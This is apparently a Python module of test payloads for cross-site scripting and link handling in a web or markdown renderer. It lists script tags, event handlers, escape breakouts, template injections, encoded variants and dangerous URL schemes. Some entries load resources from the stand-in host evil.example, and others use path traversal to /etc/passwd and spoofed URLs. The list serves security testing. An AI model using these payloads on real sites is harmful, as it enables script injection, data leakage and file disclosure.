"""Texts that run as programs where a page shows them unescaped, and addresses that run when they are followed.

Of the making of the lists that testers of web applications use: a way out of where the text stands, an element, an event.
Each would open a dialog or ask another host for something."""

RUN = "alert(1)"

ELEMENTS = [
    "<script>{run}</script>", "<SCRIPT>{run}</SCRIPT>", "<script/x>{run}</script>", "<script\n>{run}</script>",
    "<script src=//evil.example/x.js></script>", "<script src='data:text/javascript,{run}'></script>", "<scr<script>ipt>{run}</script>",
    "<script>{run}//", "<script type=module>{run}</script>", "<svg><script>{run}</script></svg>",
    "<svg><script href=data:,{run} />", "<img src=x onerror={run}>", "<img src=x onerror='{run}'>", "<img/src=x/onerror={run}>",
    "<img src=x:x onerror\x0c={run}>", "<img src onerror=`{run}`>", "<IMG SRC=x ONERROR={run}>", "<image src=x onerror={run}>",
    "<img srcset=x onerror={run}>", "<img src=//evil.example/x.png>", "<svg onload={run}>", "<svg/onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><set onbegin={run} attributeName=x>",
    "<svg><a xlink:href='javascript:{run}'><text x=9 y=9>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>{run}</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>", "<math href='javascript:{run}'>x</math>",
    "<iframe src='javascript:{run}'></iframe>", "<iframe srcdoc='<script>{run}</script>'></iframe>", "<iframe onload={run}></iframe>",
    "<iframe src=//evil.example></iframe>", "<body onload={run}>", "<body onpageshow={run}>", "<video><source onerror={run}></video>",
    "<video src=x onerror={run}>", "<video poster=//evil.example/x>", "<audio src=x onerror={run}>", "<object data='javascript:{run}'>",
    "<object data=//evil.example/x></object>", "<embed src='javascript:{run}'>", "<embed src=//evil.example/x.swf>",
    "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>",
    "<button autofocus onfocus={run}>x</button>", "<details open ontoggle={run}>x</details>", "<marquee onstart={run}>x</marquee>",
    "<form action='javascript:{run}'><input type=submit>", "<form><button formaction='javascript:{run}'>x</button></form>",
    "<isindex type=image src=1 onerror={run}>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x>", "<link rel=preload as=image href=//evil.example/x>", "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import'//evil.example/x.css';</style>", "<style>*{{background:url(//evil.example/x)}}</style>",
    "<div style='background:url(//evil.example/x)'>x</div>", "<div style=width:expression({run})>x</div>",
    "<p style=animation-name:x onanimationstart={run}>x</p>", "<style>@keyframes x{{}}</style><p style=animation:x onanimationend={run}>x",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<meta http-equiv=refresh content='0;//evil.example'>",
    "<a href='javascript:{run}'>x</a>", "<a onmouseover={run}>x</a>", "<a href=# onclick={run}>x</a>", "<a ping=//evil.example href=#>x</a>",
    "<area href='javascript:{run}'>", "<table background=//evil.example/x>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template>", "<xmp><img src=x onerror={run}></xmp>", "<plaintext>", "<!--><img src=x onerror={run}>-->",
    "<!-- --!><img src=x onerror={run}> -->", "<![CDATA[><img src=x onerror={run}>]]>", "<?x ><img src=x onerror={run}>", "<!x><img src=x onerror={run}>",
    "<x onclick={run} tabindex=1 autofocus onfocus={run}>x", "<custom-element onfocus={run} autofocus tabindex=1>", "</title><script>{run}</script>",
    "</textarea><script>{run}</script>", "</script><script>{run}</script>", "</style><script>{run}</script>", "--><script>{run}</script>",
    "]]><script>{run}</script>", "?><script>{run}</script>", "</svg><script>{run}</script>", "</pre><script>{run}</script>",
    "</option></select><script>{run}</script>", "</main></body></html><script>{run}</script>", "\"><script>{run}</script>",
    "'><script>{run}</script>", "\" onmouseover=\"{run}", "' onmouseover='{run}", "\" autofocus onfocus=\"{run}", "' autofocus onfocus='{run}",
    "\"><img src=x onerror={run}>", "'><img src=x onerror={run}>", "` onmouseover=`{run}", " onmouseover={run} ", "x\" style=\"background:url(//evil.example)",
    "\\\"><script>{run}</script>", "\\'-{run}//", "';{run}//", "\";{run}//", "</script><img src=x onerror={run}>", "${{{run}}}", "{{{{{run}}}}}",
    "{{{{constructor.constructor('{run}')()}}}}", "{{{{{{html}}}}}}", "{{{{> partials/link}}}}", "{{{{/main}}}}", "<%={run}%>", "#{{{run}}}", "[[${{{run}}}]]",
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;", "&#x3c;script&#x3e;{run}&#x3c;/script&#x3e;",
    "&lt;img src=x onerror={run}&gt;", "\uff1cscript\uff1e{run}\uff1c/script\uff1e", "%3Cscript%3E{run}%3C/script%3E", "\u00bcscript\u00be{run}\u00bc/script\u00be",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-", "<scrıpt>{run}</scrıpt>", "<\u017fcript>{run}</\u017fcript>", "\u2028<script>{run}</script>",
    "<a\u00a0href='javascript:{run}'>x", "<script\u3000>{run}</script>", "`<script>{run}</script>`", "``` <script>{run}</script>", "~~~\n<script>{run}</script>",
    "    <script>{run}</script>", "> <script>{run}</script>", "- <script>{run}</script>", "| <script>{run}</script> |\n|-|", "# <script>{run}</script>",
    "*<script>{run}</script>*", "[<script>{run}</script>](about.md)", "![<script>{run}</script>](about.md)", "[x](about.md \"' onmouseover='{run}\")",
    "[x](about.md '\" onmouseover=\"{run}')", "[x](about.md (\"><script>{run}</script>))", "[x](<about.md\" onmouseover=\"{run}>)", "![x\" onerror=\"{run}](x.png)",
    "[[about|<script>{run}</script>]]", "[[about\" onmouseover=\"{run}]]", "[^1]\n\n[^1]: <script>{run}</script>", "[^\"><script>{run}</script>]",
    "[@x, <script>{run}</script>]", "[@x, \" onmouseover=\"{run}]", "[x]: about.md \"' onmouseover='{run}\"\n\n[x]", "x\n<script>{run}</script>\n===",
    "```\" onmouseover=\"{run}\nx\n```", "```<script>{run}</script>\nx\n```", "<https://a.b/\" onmouseover=\"{run}>", "<javascript:{run}>",
    "[x](#\" onmouseover=\"{run})", "# x\" onmouseover=\"{run}", "# </h1><script>{run}</script>", "\\<script>{run}\\</script>", "<\0script>{run}</script>",
]

ADDRESSES = [
    "javascript:{run}", "JAVASCRIPT:{run}", "JaVaScRiPt:{run}", "javascript://%0a{run}", "javascript://evil.example/%0a{run}", "javascript:/**/{run}",
    " javascript:{run}", "\tjavascript:{run}", "\x01javascript:{run}", "\x1fjavascript:{run}", "\u00a0javascript:{run}", "\ufeffjavascript:{run}",
    "java\tscript:{run}", "java\nscript:{run}", "java\rscript:{run}", "javascript\t:{run}", "j\u0000avascript:{run}", "javascript&colon;{run}",
    "javascript&#58;{run}", "javascript&#x3a;{run}", "&#106;avascript:{run}", "&#x6A;avascript:{run}", "&#0000106avascript:{run}",
    "java&Tab;script:{run}", "java&NewLine;script:{run}", "javascript%3a{run}", "%6aavascript:{run}", "\\javascript:{run}", "javascript\\:{run}",
    "java\\script:{run}", "vbscript:{run}", "VBSCRIPT:{run}", "livescript:{run}", "mocha:{run}", "jscript:{run}", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={run}>", "data:image/png;base64,x", "data:,x",
    "DATA:text/html,x", "da\tta:text/html,x", "file:///etc/passwd", "FILE:///etc/passwd", "blob:https://evil.example/x", "filesystem:https://evil.example/x",
    "view-source:javascript:{run}", "feed:javascript:{run}", "jar:https://evil.example!/x", "about:blank", "ws://evil.example", "wss://evil.example",
    "ftp://evil.example/x", "ms-word:ofe|u|https://evil.example/x", "ms-msdt:/id x", "search-ms:query=x", "intent://x#Intent;end", "sms:1", "skype:x?call",
    "x-javascript:{run}", "javascriptx:{run}", "//evil.example/x", "///evil.example/x", "\\\\evil.example\\x", "/\\evil.example/x", "\\/evil.example/x",
    "/\t/evil.example/x", "https:evil.example", "https:/evil.example", "https:\\\\evil.example", "http://evil.example@bank.example/", "https://bank.example@evil.example/",
    "https://bank.example%2f@evil.example/", "https://evil.example\u2044bank.example/", "https://xn--pypal-4ve.example/", "https://\u0440\u0430ypal.example/",
    "https://evil.example/\u202egnp.exe", "https://evil.example/?\"><script>{run}</script>", "https://evil.example/' onmouseover='{run}", "//evil.example\\@bank.example",
    "../../../../etc/passwd", "..%2f..%2fetc/passwd", "%2e%2e/%2e%2e/etc/passwd", "....//etc/passwd", "/etc/passwd", "about.md/../../../etc/passwd",
    "about.md\0.png", "about.md?javascript:{run}", "about.md#javascript:{run}", "#\"><script>{run}</script>", "?<script>{run}</script>",
]

ADDRESS_PLACES = [
    "[x]({address})", "[x](<{address}>)", "![x]({address})", "<{address}>", "[x]: {address}\n\n[x]", "[x]: <{address}>\n\n![x]", "[[{address}]]", "[[{address}|x]]",
    "[x]({address} \"x\")", "[![x]({address})](about.md)",
]


def elements():
    return [text.format(run=RUN) for text in ELEMENTS]


def addresses():
    return [text.format(run=RUN) for text in ADDRESSES]
